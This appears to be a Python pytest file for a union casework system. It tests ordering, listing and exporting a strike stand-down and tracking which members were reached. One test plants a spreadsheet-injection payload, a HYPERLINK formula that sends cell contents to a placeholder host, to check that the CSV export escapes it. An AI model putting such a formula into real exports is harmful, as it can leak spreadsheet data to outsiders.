"""Standing a dispute down by page, command line and API, and the list of who has been reached."""

from __future__ import annotations

import csv
import io
import uuid
from dataclasses import asdict
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from app import stand_down_views
from app.posted import new_nonce
from app.stand_down_views import COLUMNS, PersonStanding, standing_page
from ballots import stand_down, stand_down_messages
from casework.cases import Case
from casework.people.roles import Grant, Role
from casework.register.models import Member, Workplace
from casework.stand_downs import StandDown, StandDownReason, StandDownRecipient
from core.db import Database
from core.settings import settings
from core.unit_of_work import reading, unit_of_work
from notifications.lifecycle import EvidenceClass, Medium, State
from notifications.models import Attempt, Evidence, Notice
from tests.app.conftest import Command
from tests.app.signed_in import becomes, signed_in
from tests.builders import a_case, an_officer
from tests.chaos.drill_ground import DISPUTE, Drill, furnish

DRILL = Drill(schools=2, members=12, calls=6)
ORDER = {"reason": "injunction", "note": "The High Court granted an injunction."}
KEYED = {"Idempotency-Key": "stand-down-1"}


@pytest.fixture
def struck(database: Database) -> Database:
    """A dispute of two schools on strike, some of its calls still queued."""
    furnish(database, DRILL)
    return database


def ordered(client: TestClient) -> None:
    """The order, over the API."""
    answer = client.post(f"/api/cases/{_first(client)}/acts/dispute_stood_down", json=ORDER, headers=KEYED)
    assert answer.status_code == 201, answer.text


def _first(client: TestClient) -> str:
    refs: list[str] = [each["ref"] for each in client.get("/api/cases").json()["cases"]]
    return sorted(refs)[0]


def tell(database: Database) -> None:
    """Every message is made."""
    with unit_of_work("flow:outbox_delivery", on=database) as uow:
        while stand_down_messages.tell(uow):
            pass


def put(database: Database, *states: State) -> None:
    """The first messages, in the order of their making, stand in these states, each tried once."""
    with unit_of_work("flow:outbox_delivery", on=database) as uow:
        rows = uow.session.query(Notice).filter(Notice.kind.startswith("stood_down")).order_by(Notice.id).all()
        for seconds, (notice, state) in enumerate(zip(rows, states, strict=False), start=1):
            notice.state, notice.epoch, notice.lease_until = State.SENDING, 1, uow.now
            at = uow.session.query(StandDown).one().ordered_at + timedelta(seconds=seconds)
            uow.session.add(Attempt(notice_id=notice.id, epoch=1, channel="smtp", started_at=at))
            uow.session.flush()
            if state is not State.SENDING:
                notice.state = state


class Words(HTMLParser):
    """The text of a page, white space collapsed."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.pieces: list[str] = []
        self.feed(html)

    def handle_data(self, data: str) -> None:
        """Words."""
        self.pieces.append(data)

    def __str__(self) -> str:
        return " ".join("".join(self.pieces).split())


def test_before_an_order_the_page_says_so_and_leads_to_the_form(client: TestClient, struck: Database) -> None:
    """Turns red if the page of a dispute that goes on is not found, or shows a stand-down."""
    page = client.get(f"/disputes/{DISPUTE}/standing")
    assert page.status_code == 200
    assert "No stand-down was ordered" in page.text
    assert "?act=dispute_stood_down" in page.text
    assert client.get(f"/api/disputes/{DISPUTE}/standing").json() == {"dispute": DISPUTE, "stand_down": None}
    assert client.get(f"/disputes/{DISPUTE}/standing.csv").status_code == 404
    assert client.get("/disputes/D-none/standing").status_code == 404


def test_everybody_is_listed_before_the_first_message_is_made(client: TestClient, struck: Database) -> None:
    """Turns red if the list is made of the messages: whoever has none yet would be missing from it."""
    ordered(client)
    told = client.get(f"/api/disputes/{DISPUTE}/standing").json()["stand_down"]
    assert told["total"] == told["counts"]["waiting"] == DRILL.concerned
    assert told["attempted"] == 0
    assert told["goes_on"] is True
    page = client.get(f"/disputes/{DISPUTE}/standing")
    assert f"0 of {DRILL.concerned} tried, 0 reached" in str(Words(page.text))
    assert '<meta http-equiv="refresh"' in page.text
    assert 'hx-trigger="every' in page.text


def test_each_stands_as_far_as_the_message_has_come(client: TestClient, struck: Database) -> None:
    """Turns red if what a mail server took is not told apart from what is being tried, or failed."""
    ordered(client)
    tell(struck)
    put(struck, State.ACCEPTED, State.ACCEPTED, State.TEMP_WAIT, State.UNKNOWN, State.FAILED_PERMANENT)
    told = client.get(f"/api/disputes/{DISPUTE}/standing").json()["stand_down"]
    assert told["counts"] == {
        "waiting": DRILL.concerned - 5,
        "trying": 2,
        "laid_in_a_folder": 0,
        "in_the_post": 0,
        "reached": 2,
        "not_reached": 1,
    }
    assert told["attempted"] == 5
    assert told["first_after"] == 1.0
    assert told["most_after"] is None


def test_a_letter_is_in_the_post_until_its_receipt_is_shown(client: TestClient, struck: Database) -> None:
    """Turns red if a letter that was laid for the print house counts as reached."""
    ordered(client)
    tell(struck)
    put(struck, State.ACCEPTED)
    with unit_of_work("staff:test", on=struck) as uow:
        notice = uow.session.query(Notice).filter_by(state=State.ACCEPTED).one()
        notice.medium = Medium.LETTER
        notice_id = notice.id
    with reading(on=struck) as uow:
        page = standing_page(uow, DISPUTE)
        assert page is not None
        assert page.counts[PersonStanding.IN_THE_POST] == 1
    with unit_of_work("staff:test", on=struck) as uow:
        now = {"received_on": uow.today, "received_at": uow.now, "recorded_by": "staff:test"}
        proof = Evidence(notice_id=notice_id, evidence_class=EvidenceClass.A, kind="signed_for", **now)
        uow.session.add(proof)
        uow.session.get_one(Notice, notice_id).state = State.EVIDENCED
    with reading(on=struck) as uow:
        page = standing_page(uow, DISPUTE)
        assert page is not None
        assert page.counts[PersonStanding.REACHED] == 1


def test_when_most_had_been_tried_is_read_from_the_attempts(client: TestClient, struck: Database) -> None:
    """Turns red if the 95 in a hundred are taken of those tried, and not of all concerned."""
    ordered(client)
    tell(struck)
    put(struck, *[State.ACCEPTED] * DRILL.concerned)
    with reading(on=struck) as uow:
        page = standing_page(uow, DISPUTE)
    assert page is not None
    assert page.most_after == float(-(-DRILL.concerned * 95 // 100))
    assert not page.goes_on
    assert 'hx-trigger="every' not in client.get(f"/disputes/{DISPUTE}/standing").text


def test_whom_a_text_did_not_reach_stays_tried_while_mail_waits(
    struck: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """
    Turns red if `_tell` does not keep when the text was first tried, or `TRIED` and `_after` do not read it: the list
    would say of people whom it counted already that nobody has tried them.
    """
    monkeypatch.setenv("MANDATE_SMS_URL", "https://texts.example.org/v1/messages")
    monkeypatch.setenv("MANDATE_SMS_KEY", "a-key-of-sixteen-letters")
    settings.cache_clear()
    with unit_of_work("staff:test", on=struck) as uow:
        for number, member in enumerate(uow.session.query(Member).order_by(Member.id).limit(3)):
            member.phone = f"+44770090012{number}"
        case = stand_down_views.case_of(uow, DISPUTE)
        stand_down.order(uow, case.id, StandDownReason.ERROR, "A slip in the notice.")
    tell(struck)
    texts = _texts_refused(struck)
    with reading(on=struck) as uow:
        before = standing_page(uow, DISPUTE)
    tell(struck)
    with reading(on=struck) as uow:
        after = standing_page(uow, DISPUTE)
        left = uow.session.query(StandDownRecipient).filter(StandDownRecipient.notice_id.in_(texts)).count()
    settings.cache_clear()
    assert before is not None
    assert after is not None
    assert (before.attempted, before.first_after, before.counts[PersonStanding.NOT_REACHED]) == (3, 1.0, 3)
    assert (after.attempted, after.first_after, after.counts[PersonStanding.NOT_REACHED]) == (3, 1.0, 0)
    assert left == 0


def _texts_refused(database: Database) -> list[uuid.UUID]:
    """Each text message is tried once, a second after the other, and the network refuses it for good."""
    with unit_of_work("flow:outbox_delivery", on=database) as uow:
        ordered_at = uow.session.query(StandDown).one().ordered_at
        texts = uow.session.query(Notice).filter_by(medium=Medium.SMS).order_by(Notice.id).all()
        for seconds, notice in enumerate(texts, start=1):
            notice.state, notice.epoch, notice.lease_until = State.SENDING, 1, uow.now
            at = ordered_at + timedelta(seconds=seconds)
            uow.session.add(Attempt(notice_id=notice.id, epoch=1, channel="sms", started_at=at))
            uow.session.flush()
            notice.state = State.FAILED_PERMANENT
        return [each.id for each in texts]


def test_the_list_is_narrowed_to_those_not_reached_yet(client: TestClient, struck: Database) -> None:
    """Turns red if the filter is not passed on, by page, CSV or API."""
    ordered(client)
    tell(struck)
    put(struck, *[State.ACCEPTED] * 3)
    left = DRILL.concerned - 3
    api = client.get(f"/api/disputes/{DISPUTE}/standing?only=not_reached_yet").json()["stand_down"]
    assert (len(api["people"]), api["people_count"]) == (left, left)
    assert len(client.get(f"/api/disputes/{DISPUTE}/standing?only=reached").json()["stand_down"]["people"]) == 3
    written = client.get(f"/disputes/{DISPUTE}/standing.csv?only=not_reached_yet")
    rows = list(csv.reader(io.StringIO(written.text)))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == 1 + left
    assert len(client.get(f"/disputes/{DISPUTE}/standing.csv").text.splitlines()) == 1 + DRILL.concerned
    assert client.get(f"/disputes/{DISPUTE}/standing?only=asleep").status_code == 404


def test_no_cell_of_the_file_is_a_formula(client: TestClient, struck: Database) -> None:
    """Turns red if `as_csv` writes the name of a workplace as it stands: a spreadsheet would work it out."""
    with unit_of_work("staff:test", on=struck) as uow:
        for workplace in uow.session.query(Workplace):
            workplace.name = '=HYPERLINK("http://example.org/?"&A1,"School")'
    ordered(client)
    rows = csv.reader(io.StringIO(client.get(f"/disputes/{DISPUTE}/standing.csv").text))
    assert {row[COLUMNS.index("workplace")][:2] for row in rows} == {"wo", "'="}


def test_the_head_of_a_case_and_its_rep_say_that_all_action_is_off(client: TestClient, struck: Database) -> None:
    """Turns red if the stage "Strike action" stands there alone, or another school is told to stop."""
    with unit_of_work("staff:test", on=struck) as uow:
        other = a_case(uow)
        schools = {case.ref: case.workplace_id for case in (other, *uow.session.query(Case))}
        elsewhere = other.ref
    ordered(client)
    ref = _first(client)
    for school, told in ((ref, True), (elsewhere, False)):
        with signed_in(struck, Grant(Role.WORKPLACE_REP, workplace_id=schools[school])) as rep:
            assert ("All action is off" in rep.get("/your-workplace").text) is told
    head = client.get(f"/cases/{ref}").text.partition("What is next")[0]
    assert "All action is off" in head
    assert f"/disputes/{DISPUTE}/standing" in head


def test_the_page_names_who_ordered_and_who_lifted(client: TestClient, struck: Database) -> None:
    """Turns red if the page of a stand-down says when it was ordered and lifted, and not by whom."""
    with unit_of_work("staff:test", on=struck) as uow:
        one, two = an_officer(uow, name="Kwame Fernshaw"), an_officer(uow, name="Siân Rowanmere")
        first, second = f"officer:{one.id}", f"officer:{two.id}"
    ref = _first(client)
    order = {**ORDER, "nonce": new_nonce()}
    becomes(client, first)
    assert client.post(f"/cases/{ref}/acts/dispute_stood_down", data=order).status_code == 303
    lift = {"reason": "The order was discharged.", "nonce": new_nonce()}
    becomes(client, second)
    assert client.post(f"/cases/{ref}/acts/stand_down_lifted", data=lift).status_code == 303
    said = client.get(f"/disputes/{DISPUTE}/standing").text
    assert ", by Kwame Fernshaw, officer" in said
    assert ", by Siân Rowanmere, officer: The order was discharged." in said


def test_the_order_by_the_form_of_any_of_its_cases(client: TestClient, struck: Database) -> None:
    """Turns red if the form cannot be filled in, or the act is offered while one stands."""
    ref = _first(client)
    form = client.get(f"/cases/{ref}?act=dispute_stood_down")
    nonce = form.text.split('name="nonce" value="')[1].split('"')[0]
    sent = client.post(f"/cases/{ref}/acts/dispute_stood_down", data={**ORDER, "nonce": nonce})
    assert sent.status_code == 303
    with reading(on=struck) as uow:
        assert uow.session.query(StandDown).one().note == ORDER["note"]
    names = [act["name"] for act in client.get(f"/api/cases/{ref}").json()["acts"]]
    assert "dispute_stood_down" not in names
    assert "stand_down_lifted" in names


def test_pressing_twice_over_two_ways_changes_nothing(client: TestClient, struck: Database) -> None:
    """Turns red if a second order under another key makes a second row or other messages, or drops other words."""
    ordered(client)
    tell(struck)

    def again(number: int, order: dict[str, str]) -> int:
        address, key = f"/api/cases/{_first(client)}/acts/dispute_stood_down", f"stand-down-{number}"
        return client.post(address, json=order, headers={"Idempotency-Key": key}).status_code

    assert again(2, ORDER) == 201
    assert again(3, {"reason": "error", "note": "Pressed again, in other words."}) == 409
    tell(struck)
    with reading(on=struck) as uow:
        assert uow.session.query(StandDown).one().reason == "injunction"
        told = uow.session.query(Notice).filter(Notice.kind.startswith("stood_down")).count()
    assert told == DRILL.concerned


def test_the_command_line_orders_and_lists_it(command: Command, migrated: Database, tmp_path: Path) -> None:
    """Turns red if the dispute's own reference is not taken, or the list cannot be written to a file."""
    furnish(migrated, DRILL)
    before = command("dispute", "standing", DISPUTE)
    assert "no stand-down was ordered" in before.out
    done = command("dispute", "stand-down", DISPUTE, "--reason", "error", "--note", "A slip in the notice.")
    assert done.code == 0, done.err
    told = command("dispute", "standing", DISPUTE, "--json").document
    assert told["stand_down"]["total"] == DRILL.concerned
    file = tmp_path / "left.csv"
    listed = command("dispute", "standing", DISPUTE, "--not-reached", "--csv", str(file))
    assert f"0 of {DRILL.concerned} tried" in listed.out
    assert len(file.read_text().splitlines()) == 1 + DRILL.concerned
    refused = command("dispute", "lift", DISPUTE, "--reason", "all is well")
    assert refused.code == 1
    assert "second_person_wanted" in refused.err + refused.out


def test_the_way_by_a_case_leads_to_the_same_dispute(client: TestClient, struck: Database) -> None:
    """Turns red if a case's reference and its dispute's do not mean the same stand-down."""
    with unit_of_work("staff:test", on=struck) as uow:
        case = uow.session.query(Case).order_by(Case.ref).first()
        assert case is not None
        assert stand_down_views.dispute_named(uow, case.ref).ref == DISPUTE
        assert stand_down_views.case_of(uow, DISPUTE).id in {each.id for each in uow.session.query(Case)}
        assert standing_page(uow, case.ref) is None
        ref = case.ref
    assert client.get(f"/disputes/{ref}/standing").status_code == 200


def test_the_document_is_what_the_page_shows(client: TestClient, struck: Database) -> None:
    ordered(client)
    with reading(on=struck) as uow:
        page = standing_page(uow, DISPUTE)
        assert page is not None
        assert stand_down_views.as_document(page) == {**asdict(page), "goes_on": True}
